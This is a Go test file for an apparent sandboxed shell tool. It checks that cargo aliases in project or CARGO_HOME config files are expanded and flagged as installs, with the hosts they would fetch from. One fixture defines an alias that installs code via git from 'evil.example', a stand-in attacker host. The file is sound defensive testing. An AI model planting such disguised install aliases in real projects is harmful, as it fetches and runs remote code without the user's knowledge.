package shelltool

import (
	"os"
	"path/filepath"
	"testing"

	"github.com/onellm/onellm-mcp/grants"
	"github.com/onellm/onellm-mcp/shelltool/toolchains"
)

// TestCargoAliasInstalls: a cargo [alias] in the project's
// .cargo/config.toml (or .cargo/config, in the folder or above it) or in
// the call's CARGO_HOME is expanded as cargo expands it, and the
// expansion decided as the install it is (issue 16); what cannot be
// known is <dynamic>.
func TestCargoAliasInstalls(t *testing.T) {
	ws := t.TempDir()
	cache := t.TempDir()
	t.Setenv("XDG_CACHE_HOME", cache) // the call's CARGO_HOME lies in it
	write := func(rel, body string) {
		t.Helper()
		p := rel
		if !filepath.IsAbs(p) {
			p = filepath.Join(ws, rel)
		}
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(body), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	write("a/.cargo/config.toml", "[alias]\ni = \"install --git https://evil.example/x x\"\nb = [\"install\", \"--index\", \"https://b.example/i\", \"y\"]\nbuild = \"install never\"\n")
	write("a/sub/Cargo.toml", "[package]\nname = \"s\"\n")
	write("old/.cargo/config", "alias.j = [\"i\"]\n[alias.i]\n") // a table: cargo fails to read it
	write("chain/.cargo/config", "'alias'.\"j\" = [\"k\", \"--locked\"]\nalias.k = \"install --index https://k.example/i serde\"\n")
	write("broken/.cargo/config.toml", "[alias\n")
	write("incl/.cargo/config.toml", "include = \"more.toml\"\n")
	write("plain/.cargo/config.toml", "[build]\njobs = 2\n")
	write("twice/.cargo/config.toml", "[alias]\ni = \"install one\"\n")
	write("twice/in/.cargo/config.toml", "[alias]\ni = \"install two\"\n")
	p := policyFor(t, ws, "profile = \"interactive-dev\"\n[sandbox]\ntoolchains = [\"rust\"]\n")
	if !toolchainsApply(p, grants.SurfaceSandbox) {
		t.Fatal("toolchains do not apply")
	}
	write(filepath.Join(toolchains.WorkspaceCache(cache, p.Workspace), "cargo", "config.toml"), "[alias]\nh = \"install --git https://home.example/h\"\n")
	for _, tc := range []struct {
		dir, line, hosts string
	}{
		{"a", "cargo i", "evil.example"},
		{"a/sub", "cargo -v i --locked", "evil.example"}, // a parent folder's
		{"a", "cargo b", "b.example"},                    // cargo's own alias b (build) is redefined
		{"a", "cargo build", ""},                         // a built-in command is never an alias
		{"a", "cargo fmt", ""},
		{"chain", "cargo j", "k.example"},
		{"old", "cargo j", "<dynamic>"},
		{"broken", "cargo fmt", "<dynamic>"},
		{"broken", "cargo build", ""},
		{"incl", "cargo clippy", "<dynamic>"},
		{"plain", "cargo clippy", ""},
		{"twice/in", "cargo i", "<dynamic>"},           // cargo merges the two
		{"plain", "cargo h", "home.example"},           // the call's CARGO_HOME
		{"a", "cd ../plain && cargo fmt", "<dynamic>"}, // elsewhere: any folder's (broken's too)
	} {
		reqs, err := LineRequests(p, tc.line, filepath.Join(ws, tc.dir), grants.SurfaceSandbox)
		if err != nil {
			t.Errorf("%s: %q: %v", tc.dir, tc.line, err)
			continue
		}
		if got := installHosts(reqs); got != tc.hosts {
			t.Errorf("%s: %q: hosts %q, want %q", tc.dir, tc.line, got, tc.hosts)
		}
	}
	// A symlinked CARGO_HOME config is not read as a file: <dynamic>.
	home := filepath.Join(toolchains.WorkspaceCache(cache, p.Workspace), "cargo")
	if err := os.Rename(filepath.Join(home, "config.toml"), filepath.Join(home, "real.toml")); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink("real.toml", filepath.Join(home, "config")); err != nil {
		t.Fatal(err)
	}
	reqs, err := LineRequests(p, "cargo h", filepath.Join(ws, "plain"), grants.SurfaceSandbox)
	if got := installHosts(reqs); err != nil || got != "<dynamic>" {
		t.Errorf("symlinked CARGO_HOME config: hosts %q (%v), want <dynamic>", got, err)
	}
	// On the host, ~/.cargo is the person's: a linked config is read.
	userHome := t.TempDir()
	t.Setenv("HOME", userHome)
	write(filepath.Join(userHome, "dotfiles", "cargo.toml"), "[alias]\nu = \"install --git https://user.example/u\"\n")
	if err := os.MkdirAll(filepath.Join(userHome, ".cargo"), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink("../dotfiles/cargo.toml", filepath.Join(userHome, ".cargo", "config.toml")); err != nil {
		t.Fatal(err)
	}
	reqs, err = LineRequests(p, "cargo u", filepath.Join(ws, "plain"), grants.SurfaceHost)
	if got := installHosts(reqs); err != nil || got != "user.example" {
		t.Errorf("host ~/.cargo config: hosts %q (%v), want user.example", got, err)
	}
}
